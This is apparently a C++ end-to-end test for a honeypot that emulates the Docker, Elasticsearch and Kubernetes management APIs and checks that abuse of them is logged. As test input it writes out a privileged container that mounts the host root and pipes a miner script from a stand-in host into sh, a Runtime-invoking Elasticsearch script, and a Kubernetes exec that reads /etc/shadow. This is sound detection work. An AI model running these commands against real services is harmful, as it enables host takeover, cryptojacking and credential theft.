// The management APIs a decky exposes, abused with curl as miner botnets abuse them: the
// Docker Engine API asked to create a privileged container mounting the host's root and to
// exec in it (plain on one port, TLS when offered on the other), Elasticsearch sent a scripted
// search, and the Kubernetes API server asked to exec with a stolen bearer token. The master
// gets each of them with the command, image, mounts and token.
#include <gtest/gtest.h>

#include "decky_run.h"

namespace decnet::testing {
namespace {

TEST(ApiDeckyEndToEnd, DockerElasticsearchAndKubernetesAbuseIsReported) {
  const int docker = free_port(), docker_tls = free_port(), elastic = free_port(),
            k8s_tls = free_port(), k8s = free_port();
  RelpMaster master;
  ASSERT_TRUE(master.ready()) << master.output();
  TempDir dir;
  DeckyRun decky(dir, master.relp_port(), "decky-api", "docker_api,elasticsearch,k8s",
                 {"docker_api.ports=" + std::to_string(docker) + "," + std::to_string(docker_tls),
                  "elasticsearch.ports=" + std::to_string(elastic),
                  "k8s.ports=" + std::to_string(k8s_tls) + "," + std::to_string(k8s)},
                 k8s);
  ASSERT_TRUE(decky.ready()) << decky.child().output();
  const auto at = [](int port, bool tls = false) {
    return std::string(tls ? "https" : "http") + "://127.0.0.1:" + std::to_string(port);
  };
  const auto curl = [](std::vector<std::string> args) {
    args.insert(args.begin(), {"curl", "-sk", "--max-time", "10"});
    return run_command(args);
  };

  EXPECT_NE(curl({at(docker) + "/v1.43/version"}).output.find("\"ApiVersion\":\"1.43\""),
            std::string::npos);
  EXPECT_EQ(curl({at(docker_tls, true) + "/_ping"}).output, "OK");
  const auto created =
      curl({"-X", "POST", "-H", "Content-Type: application/json", "-d",
            R"({"Image":"alpine:3.18","Cmd":["sh","-c","curl -s http://203.0.113.9/xmr.sh | sh"],)"
            R"("HostConfig":{"Binds":["/:/host"],"Privileged":true}})",
            at(docker) + "/v1.43/containers/create"});
  EXPECT_NE(created.output.find("\"Id\":"), std::string::npos) << created.output;
  curl({"-X", "POST", "-H", "Content-Type: application/json", "-d",
        R"({"Cmd":["chroot","/host","sh","-c","id"]})",
        at(docker) + "/v1.43/containers/abc123/exec"});

  EXPECT_NE(curl({at(elastic) + "/"}).output.find("You Know, for Search"), std::string::npos);
  curl(
      {"-X", "POST", "-H", "Content-Type: application/json", "-d",
       R"js({"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}})js",
       at(elastic) + "/_search"});

  EXPECT_NE(curl({at(k8s_tls, true) + "/version"}).output.find("v1.28.4"), std::string::npos);
  curl({"-X", "POST", "-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.stolen.token",
        at(k8s) + "/api/v1/namespaces/kube-system/pods/etcd/exec?command=cat&command=/etc/shadow"});

  const auto logged = [&](const std::string& where) { return master.arrives("logs", where); };
  EXPECT_TRUE(
      logged("service = 'docker_api' AND event_type = 'container_create' AND "
             "json_extract(fields, '$.image') = 'alpine:3.18' AND json_extract(fields, "
             "'$.binds') = '/:/host' AND json_extract(fields, '$.privileged') = 'true' "
             "AND json_extract(fields, '$.command') LIKE '%203.0.113.9/xmr.sh%'"))
      << master.output();
  EXPECT_TRUE(
      logged("service = 'docker_api' AND event_type = 'exec' AND json_extract(fields, "
             "'$.command') = 'chroot /host sh -c id'"));
  EXPECT_TRUE(logged("service = 'docker_api' AND event_type = 'tls_client_hello'"));
  EXPECT_TRUE(
      logged("service = 'elasticsearch' AND event_type = 'script_query' AND "
             "json_extract(fields, '$.script') LIKE '%java.lang.Runtime%'"));
  EXPECT_TRUE(
      logged("service = 'k8s' AND event_type = 'exec' AND json_extract(fields, "
             "'$.command') = 'cat /etc/shadow'"));
  EXPECT_TRUE(wait_until(
      [&] {
        return sqlite_int(master.db(),
                          "SELECT count(*) FROM credentials WHERE service = 'k8s' AND secret_kind "
                          "= 'http_bearer' AND secret_printable = "
                          "'eyJhbGciOiJSUzI1NiJ9.stolen.token'")
                   .value_or(0) == 1;
      },
      std::chrono::seconds(30)));
}

}  // namespace
}  // namespace decnet::testing
